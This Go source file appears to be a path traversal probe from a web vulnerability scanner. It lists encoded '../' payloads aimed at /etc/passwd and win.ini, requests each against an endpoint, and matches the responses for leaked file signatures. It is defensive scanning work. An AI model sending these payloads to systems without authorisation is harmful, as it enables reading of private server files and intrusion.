// Package traversal detects path traversal: servers that resolve ../
// sequences in the request path and serve files outside the web root.
package traversal

import (
	"context"
	"fmt"
	"net/url"
	"regexp"
	"strings"

	"github.com/webscan/webscan/pkg/finding"
	"github.com/webscan/webscan/pkg/iohelper"
	"github.com/webscan/webscan/pkg/regexcache"
	"github.com/webscan/webscan/pkg/session"
)

var pathPayloads = []string{
	"../../../../etc/passwd",
	"..%2f..%2f..%2f..%2fetc%2fpasswd",
	"%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
	"....//....//....//....//etc/passwd",
	"..%5c..%5c..%5cwindows%5cwin.ini",
	"../../../../windows/win.ini",
}

var leakSignatures = []struct {
	name    string
	pattern *regexp.Regexp
}{
	{"/etc/passwd", regexcache.MustGet(`root:.?:0:0:`)},
	{"win.ini", regexcache.MustGet(`(?i)\[fonts\]`)},
	{"win.ini", regexcache.MustGet(`(?i)\[extensions\]`)},
}

// Checker is the path traversal probe.
type Checker struct{}

// New creates a traversal checker.
func New() *Checker { return &Checker{} }

// Name implements probe.Probe.
func (c *Checker) Name() string { return "Path Traversal" }

// Check appends traversal sequences to the endpoint path and looks for
// leaked system file content.
func (c *Checker) Check(ctx context.Context, s *session.Session, endpoint string) (*finding.Finding, bool) {
	base, err := url.Parse(endpoint)
	if err != nil {
		return nil, false
	}

	for _, payload := range pathPayloads {
		if ctx.Err() != nil {
			return nil, false
		}
		// Build the URL textually so encoded dots and slashes reach the
		// server literally instead of being re-escaped.
		rawURL := base.Scheme + "://" + base.Host + joinPath(base.EscapedPath(), payload)

		req, err := s.NewRequest(ctx, "GET", rawURL, nil)
		if err != nil {
			continue
		}
		resp, err := s.Client.Do(req)
		if err != nil {
			continue
		}
		body, _ := iohelper.ReadBodyDefault(resp.Body)
		iohelper.DrainAndClose(resp.Body)
		if resp.StatusCode >= 400 {
			continue
		}

		if name, ok := matchLeak(string(body)); ok {
			return &finding.Finding{
				Type:     "Path Traversal",
				Severity: finding.High,
				URL:      endpoint,
				Evidence: fmt.Sprintf("request to %s served %s content", rawURL, name),
				Description: "Path traversal lets attackers escape the web root and read arbitrary " +
					"server files by inserting ../ sequences into the request path.",
			}, true
		}
	}
	return nil, false
}

func joinPath(base, payload string) string {
	base = strings.TrimSuffix(base, "/")
	i := strings.LastIndex(base, "/")
	if i >= 0 {
		base = base[:i]
	}
	return base + "/" + payload
}

func matchLeak(body string) (string, bool) {
	for _, sig := range leakSignatures {
		if sig.pattern.MatchString(body) {
			return sig.name, true
		}
	}
	return "", false
}
